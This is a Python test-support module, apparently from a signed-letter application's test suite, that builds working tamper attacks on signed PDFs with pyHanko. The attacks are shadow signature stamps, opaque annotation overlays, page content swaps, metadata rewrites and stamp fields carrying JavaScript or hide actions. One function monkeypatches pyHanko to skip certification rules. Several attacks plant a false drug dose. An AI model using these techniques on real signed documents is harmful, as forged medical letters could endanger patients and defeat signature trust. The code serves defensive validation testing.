"""Attacks on signed letters, built the way an attacker would: with pyHanko and pypdf directly.

Each takes a signed PDF and returns it with an incremental update that changes what a reader
sees (or what the file says about itself) while leaving the first signature's bytes intact.
"""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

from tests.support.certs import PASSWORD

# Where letter_pdf() prints its body line on page 1 (72 pt from the left, 120 pt from the top).
BODY_TEXT_BOX = (66, 660, 420, 690)


def pyhanko_sign(
    data: bytes,
    p12: Path,
    *,
    password: bytes = PASSWORD,
    box: tuple[int, int, int, int] | None = None,
    page: int = -1,
    stamp_text: str = "Signed by %(signer)s\n%(ts)s",
    field: str | None = None,
    timestamper: object | None = None,
) -> bytes:
    """Sign as any pyHanko user could, outside the app: no checks on the certificate's dates,
    its holder, or where the stamp goes."""
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign import fields, signers
    from pyhanko.stamp import TextStampStyle

    signer = signers.SimpleSigner.load_pkcs12(str(p12), passphrase=password)
    assert signer is not None
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    name = field or f"Sig{len(list(fields.enumerate_sig_fields(writer))) + 1}"
    spec = fields.SigFieldSpec(sig_field_name=name, on_page=page, box=box) if box else None
    meta = signers.PdfSignatureMetadata(field_name=name, subfilter=fields.SigSeedSubFilter.PADES)
    pdf_signer = signers.PdfSigner(
        meta,
        signer,
        stamp_style=TextStampStyle(stamp_text=stamp_text, background_opacity=1),
        new_field_spec=spec,
        timestamper=timestamper,  # type: ignore[arg-type]
    )
    out: bytes = pdf_signer.sign_pdf(writer).getvalue()
    return out


def shadow_stamp(signed: bytes, p12: Path) -> bytes:
    """A second signature whose visible stamp covers page 1's text with a different dose."""
    return pyhanko_sign(
        signed,
        p12,
        box=BODY_TEXT_BOX,
        page=0,
        stamp_text="Trastuzumab 1000 mg/kg weekly",
        field="Shadow",
    )


def _incremental(signed: bytes) -> Any:
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    return IncrementalPdfFileWriter(io.BytesIO(signed), strict=False)


def _written(writer: Any) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _numbers(values: tuple[int, ...]) -> Any:
    from pyhanko.pdf_utils import generic

    return generic.ArrayObject(generic.NumberObject(v) for v in values)


def annotation_overlay(signed: bytes) -> bytes:
    """An opaque square annotation with new text, drawn over page 1's body text."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.generic import pdf_name

    writer = _incremental(signed)
    x1, y1, x2, y2 = BODY_TEXT_BOX
    font = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Font"),
            pdf_name("/Subtype"): pdf_name("/Type1"),
            pdf_name("/BaseFont"): pdf_name("/Helvetica"),
        }
    )
    stream = generic.StreamObject(
        {
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): _numbers((0, 0, x2 - x1, y2 - y1)),
            pdf_name("/Resources"): generic.DictionaryObject(
                {pdf_name("/Font"): generic.DictionaryObject({pdf_name("/F9"): font})}
            ),
        },
        stream_data=(
            f"1 g 0 0 {x2 - x1} {y2 - y1} re f 0 g BT /F9 11 Tf 6 10 Td "
            "(Dose: 1000 mg/kg weekly) Tj ET"
        ).encode(),
    )
    annotation = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/Square"),
            pdf_name("/Rect"): _numbers(BODY_TEXT_BOX),
            pdf_name("/F"): generic.NumberObject(4),  # print
            pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): writer.add_object(stream)}),
        }
    )
    page_ref = writer.find_page_for_modification(0)[0]
    writer.register_annotation(page_ref, writer.add_object(annotation))
    return _written(writer)


def page_replacement(signed: bytes) -> bytes:
    """Page 1's content stream swapped for one that says something else."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.generic import pdf_name

    writer = _incremental(signed)
    page_ref, _resources = writer.find_page_for_modification(0)
    page = page_ref.get_object()
    fonts = page["/Resources"]["/Font"]
    font_name = next(iter(fonts.keys()))
    new_content = generic.StreamObject(
        stream_data=(
            f"BT {font_name} 11 Tf 72 672 Td (Letter body text, page 1: dose doubled) Tj ET"
        ).encode()
    )
    page[pdf_name("/Contents")] = writer.add_object(new_content)
    writer.update_container(page)
    return _written(writer)


def metadata_edit(signed: bytes, author: str = "Someone Else, MD") -> bytes:
    """The document information's author and title rewritten in an incremental update."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.generic import pdf_name

    writer = _incremental(signed)
    info = writer.trailer["/Info"]
    info[pdf_name("/Author")] = generic.TextStringObject(author)
    info[pdf_name("/Title")] = generic.TextStringObject("Amended letter")
    writer.update_container(info)
    return _written(writer)


def stamp_with_action(signed: bytes, p12: Path, action: str) -> bytes:
    """A second signature on blank space whose stamp runs an action: "JavaScript" on a click,
    "Hide" (hides the first signature's stamp), "URI" (opens a web page) or "PageOpen" (a
    script run when the page is shown). pyHanko lets a new signature field bring these."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.generic import pdf_name
    from pyhanko.sign import fields, signers
    from pyhanko.stamp import TextStampStyle

    writer = _incremental(signed)
    spec = fields.SigFieldSpec("Second", on_page=-1, box=(300, 300, 420, 340))
    fields.append_signature_field(writer, spec)
    words = {
        "JavaScript": {"/JS": generic.TextStringObject("app.alert('Dose: 1000 mg/kg');")},
        "PageOpen": {"/JS": generic.TextStringObject("app.alert('Dose: 1000 mg/kg');")},
        "Hide": {"/T": generic.TextStringObject("PhysicianSignature")},
        "URI": {"/URI": generic.TextStringObject("https://example.invalid/")},
    }[action]
    kind = "JavaScript" if action == "PageOpen" else action
    dictionary = generic.DictionaryObject(
        {pdf_name("/S"): pdf_name(f"/{kind}"), **{pdf_name(k): v for k, v in words.items()}}
    )
    for ref in writer.root["/AcroForm"]["/Fields"]:
        field = ref.get_object()
        if field.get("/T") == "Second":
            if action == "PageOpen":
                field[pdf_name("/AA")] = generic.DictionaryObject(
                    {pdf_name("/PO"): writer.add_object(dictionary)}
                )
            else:
                field[pdf_name("/A")] = dictionary
            writer.update_container(field)
    signer = signers.SimpleSigner.load_pkcs12(str(p12), passphrase=PASSWORD)
    meta = signers.PdfSignatureMetadata(
        field_name="Second", subfilter=fields.SigSeedSubFilter.PADES
    )
    style = TextStampStyle(stamp_text="Signed by %(signer)s", background_opacity=1)
    out: bytes = signers.PdfSigner(meta, signer, stamp_style=style).sign_pdf(writer).getvalue()
    return out


def certified_then_signed(letter: bytes, first: Path, second: Path) -> bytes:
    """A letter certified allowing no changes, then signed again by someone whose software
    skips the certification's rule (pyHanko's own signer would refuse)."""
    from pyhanko.sign import fields, signers
    from pyhanko.sign.signers.pdf_signer import PdfSigner

    signer = signers.SimpleSigner.load_pkcs12(str(first), passphrase=PASSWORD)
    meta = signers.PdfSignatureMetadata(
        field_name="Certified", subfilter=fields.SigSeedSubFilter.PADES, certify=True,
        docmdp_permissions=fields.MDPPerm.NO_CHANGES,
    )
    spec = fields.SigFieldSpec("Certified", on_page=-1, box=(72, 300, 200, 340))
    certified: bytes = PdfSigner(meta, signer, new_field_spec=spec).sign_pdf(
        _incremental(letter)
    ).getvalue()
    rule = PdfSigner._enforce_certification_constraints
    PdfSigner._enforce_certification_constraints = lambda self, revision: None  # type: ignore[method-assign]
    try:
        return pyhanko_sign(certified, second, box=(300, 300, 420, 340), field="Second")
    finally:
        PdfSigner._enforce_certification_constraints = rule  # type: ignore[method-assign]
